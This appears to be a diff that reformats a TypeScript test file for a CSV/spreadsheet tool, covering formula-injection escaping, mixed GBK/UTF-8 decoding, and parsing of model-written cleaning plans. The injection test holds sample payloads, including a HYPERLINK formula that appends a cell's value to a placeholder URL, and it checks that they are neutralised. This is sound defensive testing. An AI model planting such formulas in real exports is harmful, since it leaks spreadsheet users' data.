@@ -24,11 +24,27 @@ afterAll(async () => {
 });
 
 describe('formula injection (OWASP): nothing written opens as a formula', () => {
-  const table: Table = { headers: ['name', '=HEADER()'], rows: [['=HYPERLINK("http://x/?"&A1,"click")', '+1+2'], ['@SUM(A1)', '-2+3'], ['\tTAB', '\rCR'], ['-12.5', '+3%'], ['plain', '1,234']] };
+  const table: Table = {
+    headers: ['name', '=HEADER()'],
+    rows: [
+      ['=HYPERLINK("http://x/?"&A1,"click")', '+1+2'],
+      ['@SUM(A1)', '-2+3'],
+      ['\tTAB', '\rCR'],
+      ['-12.5', '+3%'],
+      ['plain', '1,234'],
+    ],
+  };
 
   it('CSV cells a spreadsheet would evaluate get a leading apostrophe; plain numbers stay numbers', () => {
     const csv = toCsv(table, false);
-    expect(csv.split('\r\n')).toEqual(['name,"\'=HEADER()"', '"\'=HYPERLINK(""http://x/?""&A1,""click"")","\'+1+2"', '"\'@SUM(A1)","\'-2+3"', '"\'\tTAB","\'\rCR"', '-12.5,+3%', 'plain,"1,234"']);
+    expect(csv.split('\r\n')).toEqual([
+      'name,"\'=HEADER()"',
+      '"\'=HYPERLINK(""http://x/?""&A1,""click"")","\'+1+2"',
+      '"\'@SUM(A1)","\'-2+3"',
+      '"\'\tTAB","\'\rCR"',
+      '-12.5,+3%',
+      'plain,"1,234"',
+    ]);
     expect(['-12.5', '+3%', '1e5', '-.5'].map(isFormulaLike)).toEqual([false, false, false, false]);
   });
 
@@ -53,7 +69,9 @@ describe('a CSV that mixes UTF-8 and GBK', () => {
       ['西北', '300'],
     ]);
     expect(r.encoding).toBe('mixed');
-    expect(r.warnings.map((w) => t(w.key, w.params))).toEqual(['The file mixes two encodings: 2 lines (3, 4) are GBK, the rest UTF-8. Each line was read in its own encoding; check those rows, and save the file as UTF-8 to avoid this.']);
+    expect(r.warnings.map((w) => t(w.key, w.params))).toEqual([
+      'The file mixes two encodings: 2 lines (3, 4) are GBK, the rest UTF-8. Each line was read in its own encoding; check those rows, and save the file as UTF-8 to avoid this.',
+    ]);
   });
 
   it('a file that is all GBK, or all UTF-8, is read as such without a warning', async () => {
@@ -63,7 +81,13 @@ describe('a CSV that mixes UTF-8 and GBK', () => {
 });
 
 describe('cleaning plans as models write them', () => {
-  const table: Table = { headers: [' 地区 ', '金额', '备注'], rows: [[' 华东 ', '12', ' x '], ['华南', '1,200', 'y']] };
+  const table: Table = {
+    headers: [' 地区 ', '金额', '备注'],
+    rows: [
+      [' 华东 ', '12', ' x '],
+      ['华南', '1,200', 'y'],
+    ],
+  };
 
   it('"columns":["*"] means every column, like "*"', () => {
     const r = applyPlan(table, { steps: [{ op: 'trim', columns: ['*'] }] });
@@ -79,7 +103,7 @@ describe('cleaning plans as models write them', () => {
         { op: 'Trim', column: 'all' },
         { op: 'fill_missing', columns: ['金额'], method: 'ffill' },
         { op: 'standardize_case', column: '备注', case: 'UPPERCASE' },
-        { op: 'filter', column: '金额', operator: '!=' , value: '0' },
+        { op: 'filter', column: '金额', operator: '!=', value: '0' },
         { op: 'drop_duplicates', subset: '*' },
       ],
     });
@@ -90,8 +114,24 @@ describe('cleaning plans as models write them', () => {
       { op: 'filterRows', column: '金额', where: 'ne', value: '0' },
       { op: 'dedupe' },
     ]);
-    expect(() => parsePlan({ steps: [{ op: 'trim', columns: '*' }, { op: 'explode', column: 'x' }] })).toThrow(expect.objectContaining({ key: 'sheets.error.planInvalid', params: expect.objectContaining({ details: expect.stringMatching(/^step 2: unknown op "explode"/) }) }));
-    expect(() => parsePlan({ steps: [{ op: 'parseNumber', columns: ['金额', '备注'] }] })).toThrow(expect.objectContaining({ params: expect.objectContaining({ details: expect.stringContaining('step 1 (parseNumber) works on one "column", but names 2') }) }));
+    expect(() =>
+      parsePlan({
+        steps: [
+          { op: 'trim', columns: '*' },
+          { op: 'explode', column: 'x' },
+        ],
+      }),
+    ).toThrow(
+      expect.objectContaining({
+        key: 'sheets.error.planInvalid',
+        params: expect.objectContaining({ details: expect.stringMatching(/^step 2: unknown op "explode"/) }),
+      }),
+    );
+    expect(() => parsePlan({ steps: [{ op: 'parseNumber', columns: ['金额', '备注'] }] })).toThrow(
+      expect.objectContaining({
+        params: expect.objectContaining({ details: expect.stringContaining('step 1 (parseNumber) works on one "column", but names 2') }),
+      }),
+    );
   });
 
   it('change counts count cells whose text changed, not cells visited', () => {
